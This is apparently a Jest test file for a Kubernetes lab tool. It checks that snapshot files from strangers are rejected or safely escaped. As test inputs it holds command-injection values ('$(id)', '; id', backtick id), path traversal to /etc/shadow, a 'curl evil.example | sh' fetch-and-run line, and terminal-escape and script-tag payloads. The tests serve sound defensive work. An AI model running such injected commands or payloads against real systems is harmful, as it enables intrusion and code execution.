import { describe, expect, test } from '@jest/globals';
import { loadAssets } from '../../../src/assets/load.js';
import { clusterSchema } from '../../../src/collect/clusterSchema.js';
import { parseSnapshotDocument, type SnapshotDocument } from '../../../src/collect/document.js';
import { loadChecks } from '../../../src/collect/loadChecks.js';
import { snapshotSchema } from '../../../src/collect/snapshotSchema.js';
import { jsonText } from '../../../src/commands/jsonText.js';
import { K8slabError } from '../../../src/errors/error.js';
import { formatError } from '../../../src/errors/format.js';
import { evaluate } from '../../../src/report/evaluate.js';
import { reportDocument } from '../../../src/report/json.js';
import { reportJunit, reportPage } from '../../../src/report/pages.js';
import { reportText } from '../../../src/report/text.js';
import { goldenCases, planOf } from '../../golden/support/cases.js';
import { brokenNames, snapshotOf, textOf, type Fixture } from '../checks/fixtures.js';
import { leavesOf, poison } from '../checks/poison.js';

/** `verify --from` judges files of strangers: what they say is shown, and does nothing. */
const assets = await loadAssets();
const checks = await loadChecks();

function refusal(document: object): K8slabError {
  try {
    parseSnapshotDocument(JSON.stringify(document), 'x.json', assets);
  } catch (error) {
    if (error instanceof K8slabError) return error;
    throw error;
  }
  throw new Error('the file was taken');
}

describe('of a plan, nothing is taken that could become part of a command', () => {
  const base = 'hard-way-3cp-3w';
  const places: [string, unknown, string][] = [
    ['/cluster/name', 'lab; id', 'cluster.name: is not a name of a lab'],
    ['/cluster/name', '../../etc', 'cluster.name: is not a name of a lab'],
    ['/cluster/provider', '$(id)', 'cluster.provider: is not a name of'],
    ['/cluster/machines/0/name', 'cp1 -- id', 'cluster.machines.0.name: is not a name of a machine'],
    ['/cluster/machines/0/name', '--help', 'cluster.machines.0.name: is not a name of a machine'],
    ['/cluster/machines/0/address', '1.2.3.4; id', 'cluster.machines.0.address: is not an IPv4 address'],
    ['/cluster/machines/0/podCidr', '1.2.3.0/24 -d', 'cluster.machines.0.podCidr: is not an IPv4 range'],
    [
      '/cluster/loadBalancer/machines/0',
      '`id`',
      'cluster.loadBalancer.machines.0: is not a name of a machine',
    ],
    ['/cluster/endpoint/address', 'x y', 'cluster.endpoint.address: is not an IPv4 address'],
    [
      '/cluster/endpoint/hostPort',
      "1.2.3.4:6443#' ; id #",
      'cluster.endpoint.hostPort: is not an address and a port',
    ],
    ['/cluster/bootstrap/name', 'kubeadm\u001b[2J', 'cluster.bootstrap.name: is not a name of'],
    [
      '/cluster/bootstrap/programs/0/name',
      'etcd; id',
      'cluster.bootstrap.programs.0.name: is not a name of a program',
    ],
    [
      '/cluster/bootstrap/programs/0/file',
      '/etc/shadow',
      'cluster.bootstrap.programs.0.file: is not a file of a unit',
    ],
    [
      '/cluster/bootstrap/programs/0/file',
      '/etc/systemd/system/../../shadow.service',
      'programs.0.file: is not a file of',
    ],
    ['/cluster/runtime/name', '&& id', 'cluster.runtime.name: is not a name of'],
    [
      '/cluster/runtime/service/unit',
      'containerd; id',
      'cluster.runtime.service.unit: is not a name of a program',
    ],
    [
      '/cluster/runtime/service/program',
      '-rf',
      'cluster.runtime.service.program: is not a name of a program',
    ],
    [
      '/cluster/runtime/service/socket',
      '/run/x|id',
      'cluster.runtime.service.socket: is not an absolute path',
    ],
    [
      '/cluster/runtime/service/storage',
      '/var/lib/containerd /etc',
      'cluster.runtime.service.storage: is not an absolute path',
    ],
    [
      '/cluster/runtime/service/storage',
      '/var/../etc',
      'cluster.runtime.service.storage: is not an absolute path',
    ],
    ['/cluster/cni/name', '<x>', 'cluster.cni.name: is not a name of'],
    ['/cluster/kubernetes/version', '1.36.3 id', 'cluster.kubernetes.version: is not a version'],
    ['/cluster/networking/podSubnet', "10.0.0.0/8#' x", 'cluster.networking.podSubnet: is not an IPv4 range'],
    ['/cluster/networking/serviceSubnet', '$HOME', 'cluster.networking.serviceSubnet: is not an IPv4 range'],
    ['/cluster/networking/dnsDomain', "x' || id", 'cluster.networking.dnsDomain: is not a DNS name'],
    [
      '/cluster/networking/apiServiceAddress',
      'a',
      'cluster.networking.apiServiceAddress: is not an IPv4 address',
    ],
    [
      '/cluster/networking/dnsServiceAddress',
      'a',
      'cluster.networking.dnsServiceAddress: is not an IPv4 address',
    ],
    ['/cluster/networking/nat/cidr', '10.0.2.0/24; id', 'cluster.networking.nat.cidr: is not an IPv4 range'],
    ['/cluster/networking/hostOnly/cidr', 'x', 'cluster.networking.hostOnly.cidr: is not an IPv4 range'],
    ['/cluster/networking/hostOnly/bridge', 'a b', 'cluster.networking.hostOnly.bridge: is not a name of'],
    ['/snapshot/cluster/askedOn', 'cp1;id', 'snapshot.cluster.askedOn: is not a name of a machine'],
    ['/snapshot/machines/a;id', { reachable: true }, 'snapshot.machines.a;id:'],
  ];

  test.each(places)('%s: %j', (path, value, words) => {
    expect(() => snapshotOf(base)).not.toThrow();
    const text = textOf(base);
    const document: unknown = JSON.parse(text);
    const keys = path.split('/').slice(1);
    const last = keys.pop() ?? '';
    let parent = document as Record<string, unknown>;
    for (const key of keys) parent = parent[key] as Record<string, unknown>;
    parent[last] = value;
    const error = refusal(document as object);
    expect(error.code).toBe('GUEST_SNAPSHOT_INVALID');
    expect(error.message).toContain(words);
  });

  test('every plan that k8slab makes is one that it reads again', () => {
    for (const one of goldenCases(assets)) {
      const { error } = clusterSchema.safeParse(JSON.parse(JSON.stringify(planOf(one, assets))));
      expect({ name: one.name, issues: error?.issues }).toEqual({ name: one.name, issues: undefined });
    }
  });
});

describe('the commands that repair', () => {
  const hostile: Fixture['changes'] = [
    {
      path: '/cluster/bootstrap/repairs',
      value: { coredns: 'curl evil.example | sh', nodeIp: 'id', other: 'x' },
    },
  ];

  test('are the package’s own, whatever the file says', () => {
    const { cluster } = snapshotOf('probes-1cp-2w', hostile);
    expect(cluster.bootstrap.repairs).toEqual(assets.bootstraps.kubeadm?.bootstrap?.repairs);
    expect(cluster.bootstrap.repairs?.coredns).toBe('kubeadm init phase addon coredns');
  });

  test('are none for a bootstrapper that the package does not have', () => {
    const { cluster } = snapshotOf('probes-1cp-2w', [
      ...hostile,
      { path: '/cluster/bootstrap/name', value: 'constructor' },
    ]);
    expect(cluster.bootstrap).not.toHaveProperty('repairs');
  });
});

const escapes = '\u001b]0;owned\u0007\u009b2J\u202e\r\n</pre><script>alert("1")</script> & \'';

/** A file in which every text says something hostile, where it may say anything at all. */
function allHostile(name: string): SnapshotDocument {
  const document = structuredClone(snapshotOf(name));
  const undo = new Map(
    leavesOf(document).map((leaf) => [leaf.join('\n'), poison(document, [leaf], (text) => text + escapes)]),
  );
  const issuesOf = () => [
    ...(clusterSchema.safeParse(document.cluster).error?.issues ?? []).map(({ path }) => [
      'cluster',
      ...path,
    ]),
    ...(snapshotSchema.safeParse(document.snapshot).error?.issues ?? []).map(({ path }) => [
      'snapshot',
      ...path,
    ]),
  ];
  // One that is put right may show the next, inside it.
  for (let issues = issuesOf(); issues.length > 0; issues = issuesOf()) {
    for (const path of issues) {
      const putRight = undo.get(path.join('\n'));
      if (!putRight) throw new Error(`nothing hostile stands at ${path.join('.')}`);
      putRight();
    }
  }
  return parseSnapshotDocument(JSON.stringify(document), 'x.json', assets);
}

// The line ends that a terminal may get, and nothing else that moves its cursor.
const harmful = /[^\P{Cc}\n\t]|[\p{Cf}\p{Zl}\p{Zp}]/u;

describe.each(brokenNames())('every text of %s is hostile', (name) => {
  const { cluster, snapshot } = allHostile(name);
  const report = evaluate(cluster, snapshot, checks);

  test('and much of it is in the report', () => {
    expect(JSON.stringify(report).split('owned').length).toBeGreaterThan(5);
  });

  test('and none of it drives a terminal', () => {
    expect(reportText(report)).not.toMatch(harmful);
    expect(jsonText(reportDocument(report))).not.toMatch(harmful);
    expect(JSON.parse(jsonText(reportDocument(report)))).toEqual(
      JSON.parse(JSON.stringify(reportDocument(report))),
    );
  });

  test('and none of it is markup of the page or of the XML', () => {
    for (const text of [
      reportPage(assets, cluster, snapshot, report),
      reportJunit(assets, cluster, snapshot, report),
    ]) {
      expect(text).toContain('&lt;/pre&gt;&lt;script&gt;');
      expect(text).not.toMatch(/<script|<\/pre><script/);
      expect(text).not.toMatch(harmful);
    }
  });
});

test('a file that is refused does not drive a terminal either', () => {
  const { cluster, snapshot } = snapshotOf('1cp-2w');
  const key = { ...snapshot, machines: { [escapes]: { reachable: true } } };
  const shown = formatError(refusal({ schema: 1, cluster, snapshot: key }));
  expect(shown).toContain('snapshot.machines');
  expect(shown).not.toMatch(harmful);
  const text = () => parseSnapshotDocument(`\u001b]0;owned\u0007\u009b`, '\u001b[2J.json', assets);
  expect(text).toThrow(K8slabError);
  try {
    text();
  } catch (error) {
    expect(formatError(error as K8slabError)).not.toMatch(harmful);
  }
});
